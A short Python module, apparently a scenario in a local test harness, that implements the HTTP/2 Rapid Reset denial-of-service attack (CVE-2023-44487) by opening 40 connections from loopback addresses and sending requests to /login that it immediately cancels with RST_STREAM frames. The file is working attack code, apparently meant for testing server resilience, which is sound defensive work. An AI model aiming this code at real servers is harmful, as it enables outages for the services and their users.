from _crowd import crowd
from _http2 import RST_STREAM, connect, frame, request

WHAT = "40 HTTP/2 connections from 4 addresses that reset each request at once (CVE-2023-44487)"


def attack(box, stop):
    def one(number):
        s = connect(box, f"127.0.4.{number % 4 + 1}")
        try:
            stream = 1
            while not stop.is_set():
                s.sendall(request(stream, "GET", "/login") + frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))
                stream += 2
        finally:
            s.close()

    return "%d connections, %d of them cut" % crowd(40, stop, one)
